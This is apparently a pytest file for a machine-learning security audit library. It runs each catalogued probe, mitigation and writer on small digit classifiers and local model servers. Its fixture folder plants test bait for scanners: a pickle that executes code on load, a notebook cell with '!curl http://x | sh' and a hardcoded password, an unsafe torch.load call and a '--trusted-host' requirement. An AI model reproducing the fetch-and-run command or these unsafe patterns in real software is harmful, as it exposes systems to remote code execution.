"""Every probe, mitigation and writer of the catalogue keeps its promises, each on a small real subject."""

from __future__ import annotations

import atexit
import json
import pickle
from collections.abc import Callable
from contextlib import ExitStack, closing
from dataclasses import replace
from functools import cache
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch
from sklearn.datasets import load_digits
from sklearn.ensemble import RandomForestClassifier
from sklearn.linear_model import LogisticRegression
from tests.growing_server import growing_server
from tests.model_server import TOKEN, model_server
from tests.small_people import people_inputs, people_network, people_subject
from tests.small_texts import text_inputs, text_subject

from redan.core import catalogue
from redan.core.catalogue import Entry
from redan.core.constraints import Rules
from redan.core.inputs import Dataset, Inputs
from redan.evidence.datasets import schema
from redan.evidence.datasets.manifest import Card, measure, to_json
from redan.evidence.datasets.reading import read_table
from redan.subjects.deployment import DeploymentSubject
from redan.subjects.files import open_files
from redan.subjects.http import HttpSubject
from redan.subjects.options import Options
from redan.subjects.recipes import own_recipe
from redan.subjects.sklearn import SklearnSubject
from redan.subjects.torch import TorchSubject
from redan.testing import (
    Check,
    MitigationCase,
    ProbeCase,
    WriterCase,
    mitigation_checks,
    probe_checks,
    writer_checks,
)

STACK = ExitStack()
"""Holds what is served until the process ends; closed before the interpreter stops its threads, else it would hang."""
atexit.register(STACK.close)
OSV = Path(__file__).parents[1] / "unit" / "kernels" / "advisories" / "osv.jsonl"
QUICK: dict[str, Any] = {
    "plan": "quick",
    "timed": False,
    "meter": "lines",
    "epochs": 1,
    "osv": str(OSV),
    "shots": 1,
    "queries": 1,
    "rows": 10,
    "fits": 2,
    "trees": 5,
    "attribute": "20",
}
"""Parameters that make a probe quick or possible, given to each that knows them."""
ROWS = 24


@cache
def digits() -> Dataset:
    """Scikit-learn's digits, 8 by 8, between 0 and 1."""
    x, y = load_digits(return_X_y=True)
    return Dataset(
        x=(x / 16).astype(np.float32).reshape(-1, 1, 8, 8),
        y=y.astype(np.int64),
        name="digits",
        sha256="",
        indices=np.arange(len(x)),
        bounds=(0.0, 1.0),
    )


def rows(start: int, stop: int) -> Dataset:
    """Some of them, as arrays of their own."""
    data, part = digits(), slice(start, stop)
    return replace(data, x=data.x[part].copy(), y=data.y[part].copy(), indices=data.indices[part].copy())


@cache
def trained() -> torch.nn.Module:
    """A small network that is right about most digits."""
    generator = torch.Generator().manual_seed(0)
    with torch.random.fork_rng(devices=[]):
        net = torch.nn.Sequential(
            torch.nn.Flatten(), torch.nn.Linear(64, 24), torch.nn.ReLU(), torch.nn.Dropout(0.1), torch.nn.Linear(24, 10)
        )
    for weight in net.parameters():
        weight.data = torch.randn(weight.shape, generator=generator) * 0.2
    x, y = torch.from_numpy(digits().x), torch.from_numpy(digits().y)
    optimiser = torch.optim.Adam(net.parameters(), lr=0.01)
    net.eval()
    for _ in range(40):
        optimiser.zero_grad()
        torch.nn.functional.cross_entropy(net(x), y).backward()
        optimiser.step()
    optimiser.zero_grad()
    assert (net(x).argmax(1) == y).float().mean() > 0.9
    return net.train()  # in the mode that a probe must not leave it without


def network() -> TorchSubject:
    """The network, with modes and a gradient that nobody may touch."""
    with torch.random.fork_rng(devices=[]):
        net = torch.nn.Sequential(
            torch.nn.Flatten(), torch.nn.Linear(64, 24), torch.nn.ReLU(), torch.nn.Dropout(0.1), torch.nn.Linear(24, 10)
        )
    net.load_state_dict(trained().state_dict())
    net[1].weight.requires_grad_(requires_grad=False)
    net[4].weight.grad = torch.full_like(net[4].weight, 0.5)
    options = Options(name="digits-net", bounds=(0.0, 1.0), classes=tuple(map(str, range(10))))
    return TorchSubject(net, options=options, sample=digits().x[:2])


@cache
def estimator() -> LogisticRegression:
    """A linear classifier of the digits."""
    data = digits()
    return LogisticRegression(max_iter=50, tol=0.1).fit(data.x[:600].reshape(600, -1), data.y[:600])


def classifier() -> SklearnSubject:
    """The linear classifier as a subject."""
    return SklearnSubject(pickle.loads(pickle.dumps(estimator())), options=Options(name="digits-lr", bounds=(0, 1)))


@cache
def trees() -> RandomForestClassifier:
    """A small forest of the digits."""
    data = digits()
    return RandomForestClassifier(5, max_depth=6, random_state=0).fit(data.x[:600].reshape(600, -1), data.y[:600])


def forest() -> SklearnSubject:
    """The small forest as a subject."""
    return SklearnSubject(pickle.loads(pickle.dumps(trees())), options=Options(name="digits-rf", bounds=(0, 1)))


def two_classes() -> SklearnSubject:
    """A forest that tells small digits from large ones, by 64 columns."""
    model = RandomForestClassifier(5, max_depth=4, random_state=0)
    model.fit(digits().x[:600].reshape(600, -1), digits().y[:600] > 4)
    return SklearnSubject(model, options=Options(name="digits-small", bounds=(0, 1)))


def one_way() -> Inputs:
    """Rows of a table, of which some columns can only grow."""

    def flat(data: Dataset) -> Dataset:
        return replace(data, x=data.x.reshape(len(data), -1), y=(data.y > 4).astype(np.int64))

    plain = inputs()
    assert plain.test is not None
    assert plain.train is not None
    return replace(plain, test=flat(plain.test), train=flat(plain.train), constraints=Rules(only_up=("1?",)))


def binary_table() -> Inputs:
    """Rows of a table of zeros and ones."""

    def rounded(data: Dataset) -> Dataset:
        return replace(data, x=(data.x.reshape(len(data), -1) > 0.5).astype(np.float32))

    plain = inputs()
    assert plain.test is not None
    assert plain.train is not None
    return replace(plain, test=rounded(plain.test), train=rounded(plain.train))


class Hostile:
    """Runs something when it is unpickled; nothing here unpickles it."""

    def __reduce__(self) -> tuple[Any, ...]:
        return (print, ("this text must never be seen",))


NOTEBOOK = {
    "nbformat": 4,
    "cells": [{"cell_type": "code", "source": "!curl http://x | sh\npassword = 'Tr0ub4dor&3x'", "outputs": []}],
}
"""A notebook with something for each probe that reads notebooks."""


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a hostile pickle, a harmless one, an array and a text."""
    path = tmp_path_factory.mktemp("model")
    (path / "hostile.pkl").write_bytes(pickle.dumps(Hostile()))
    (path / "harmless.pkl").write_bytes(pickle.dumps({"weights": [0.5]}))
    np.save(path / "array.npy", np.zeros(3))
    (path / "README.md").write_text("A model.")
    (path / "LICENSE").write_text("LLAMA 2 COMMUNITY LICENSE AGREEMENT", encoding="utf-8")
    (path / "train.ipynb").write_text(json.dumps(NOTEBOOK))
    (path / "train.py").write_text("import torch\ntorch.load('model.pt', weights_only=False)\n", encoding="utf-8")
    (path / "people.csv").write_text("name,email\nJane Roe,jane@clinic.de\n")
    (path / "requirements.txt").write_text("numpy\n--trusted-host example.org\n", encoding="utf-8")
    write_data(path / "data")
    return path


def write_data(path: Path) -> None:
    """Write two tables that lie apart, a schema that one of them breaks, and a manifest that fits neither any more."""
    path.mkdir()
    for name, low in (("reference", 0), ("table", 30)):
        lines = [f"{low + i},{i % 3}" for i in range(60)]
        (path / f"{name}.csv").write_text("\n".join(["age,city", *lines]) + "\n")
    (path / "schema.json").write_bytes(schema.to_json(schema.infer(read_table(path / "reference.csv"))))
    manifest = measure(path, card=Card())
    (path / "added.txt").write_text("added")
    path.with_name("data.manifest.json").write_bytes(to_json(manifest))


def compared_with(entry: Entry, folder: Path) -> dict[str, str]:
    """Return what the probes that look at one table compare it with."""
    table = str(folder / "data" / "reference.csv")
    given = {"reference": table, "original": table, "control": table, "schema": str(folder / "data" / "schema.json")}
    given |= {"quasi": "age,city", "prediction": "age"}
    return {name: value for name, value in given.items() if name in entry.params}


@cache
def served() -> str:
    """Start a weak model server once; it ends with the process, since it lives in daemon threads."""
    return STACK.enter_context(model_server("no-rate-limit", "open-server-lists"))


SUBJECTS: dict[str, Callable[[], Any]] = {
    "text": text_subject,
    "gradients": network,
    "trainable": network,
    "weights": network,
    "trees": forest,
    "refittable": forest,
    "scores": classifier,
    "labels": classifier,
    "deployment": lambda: DeploymentSubject(served(), credential=TOKEN),
}
"""Capability → who offers it; the first that is needed decides."""


@cache
def endpoint() -> HttpSubject:
    """A model that is served here; its connection and its server end with the process."""
    url = STACK.enter_context(growing_server(careless=False))
    return STACK.enter_context(closing(HttpSubject(url, options=Options(name="endpoint", answers="labels"))))


NAMED: dict[str, Callable[[], Any]] = {"blow-ups": endpoint, "monotone-trees": two_classes, "leaky-column": two_classes}
"""Probe or mitigation → its subject, where what it needs does not tell."""


TABLES = {"attribute-inference", "data-minimisation", "attribution", "surrogate"}
"""Probes that work on columns of few values."""
PARAMS: dict[str, dict[str, Any]] = {
    "knockoff": {"queries": 20, "clone_epochs": 1},
    "recorded-numbers": {"sensitive": "city", "least": 10},
    "jbda": {"queries": 12, "start": 6, "clone_epochs": 1},
}
"""Probe → parameters that make it quick, where those of all would make it impossible."""


MANY_ROWS = {"activation-likelihood", "spectral-signatures"}
"""Probes that compare the rows of a class with each other."""


def subject_of(entry: Entry, folder: Path) -> Callable[[], Any]:
    """Choose a maker of subjects by what a probe needs."""
    if compared_with(entry, folder):
        return lambda: open_files(folder / "data" / "table.csv")
    if "bytes" in entry.needs:
        return lambda: open_files(folder)
    if entry.name in NAMED:
        return NAMED[entry.name]
    if entry.threat == "bias":
        return people_network if "trainable" in entry.needs else people_subject
    for capability, make in SUBJECTS.items():
        if capability in entry.needs:
            return make
    pytest.fail(f"{entry.id} needs {entry.needs}; give SUBJECTS a small real subject that offers it")


def inputs() -> Inputs:
    """A few rows for every data role, none in two of them."""
    return Inputs(
        test=rows(1000, 1000 + ROWS), train=rows(0, 2 * ROWS), reference=rows(1200, 1230), canary=rows(1300, 1310)
    )


def with_recipe() -> Inputs:
    """The same with the owner's training function, so that nothing is asked of the model but answers."""

    def fit(x: Any, y: Any, seed: int) -> LogisticRegression:
        return LogisticRegression(max_iter=5, tol=0.1, random_state=seed % 2**31).fit(x.reshape(len(x), -1), y)

    return replace(inputs(), recipe=own_recipe(fit, Options(name="digits-lr", bounds=(0, 1))))


def with_many_rows() -> Inputs:
    """Enough training rows of each class to compare the classes: two noisy copies of every digit."""
    data, draws = digits(), np.random.default_rng(0)
    copies = [np.clip(data.x + 0.05 * draws.normal(size=data.x.shape), 0, 1).astype(np.float32) for _ in range(2)]
    x, y = np.concatenate(copies), np.concatenate([data.y] * 2)
    return replace(inputs(), train=replace(data, x=x, y=y, indices=np.arange(len(y))))


def many() -> Inputs:
    """The same with more rows to measure on and to train with."""
    return replace(inputs(), test=rows(1000, 1090), train=rows(0, 110))


def many_columns() -> Inputs:
    """More rows of a table of two classes; there is no training data."""
    few = rows(0, 80)
    return Inputs(test=replace(few, x=few.x.reshape(80, -1), y=(few.y > 4).astype(np.int64)))


MANY: dict[str, Callable[[], Inputs]] = {
    "carried-region": many,
    "leaky-column": many_columns,
    "knockoff": many,
    "jbda": many,
}
"""Probe → its data, where a few rows say nothing."""


def inputs_of(entry: Entry) -> Callable[[], Inputs]:
    """Choose the data by what a probe works on."""
    if entry.threat == "bias":
        return people_inputs
    if entry.name in TABLES:
        return binary_table
    if entry.name == "poison-simulation":
        return with_recipe
    if entry.name in MANY:
        return MANY[entry.name]
    if entry.name in MANY_ROWS:
        return with_many_rows
    return text_inputs if "text" in entry.needs else inputs


def quick(entry: Entry) -> dict[str, Any]:
    """Return the quick parameters that a probe knows."""
    return {**{name: value for name, value in QUICK.items() if name in entry.params}, **PARAMS.get(entry.name, {})}


@pytest.fixture(scope="module")
def probe_case(request: pytest.FixtureRequest, folder: Path) -> ProbeCase:
    """A probe with its subject; its complete run is made once for all checks."""
    entry: Entry = request.param
    params = {**quick(entry), **compared_with(entry, folder)}
    return ProbeCase(
        thing=catalogue.load(entry), make_subject=subject_of(entry, folder), make_inputs=inputs_of(entry), params=params
    )


@pytest.mark.parametrize("probe_case", catalogue.entries("probe"), ids=lambda e: e.name, indirect=True)
@pytest.mark.parametrize("check", probe_checks(), ids=str)
def test_every_probe(check: Check, probe_case: ProbeCase) -> None:
    check(probe_case)


@pytest.fixture(scope="module")
def mitigation_case(request: pytest.FixtureRequest, folder: Path) -> MitigationCase:
    """A mitigation with its subject."""
    entry: Entry = request.param
    return MitigationCase(
        thing=catalogue.load(entry),
        make_subject=subject_of(entry, folder),
        make_inputs=one_way if entry.name == "monotone-trees" else inputs_of(entry),
        params=quick(entry),
    )


@pytest.mark.parametrize("mitigation_case", catalogue.entries("mitigation"), ids=lambda e: e.name, indirect=True)
@pytest.mark.parametrize("check", mitigation_checks(), ids=str)
def test_every_mitigation(check: Check, mitigation_case: MitigationCase) -> None:
    check(mitigation_case)


@pytest.mark.parametrize("entry", catalogue.entries("writer"), ids=lambda e: e.name)
@pytest.mark.parametrize("check", writer_checks(), ids=str)
def test_every_writer(check: Check, entry: Entry) -> None:
    check(WriterCase(thing=catalogue.load(entry), media_type=entry.media_type))
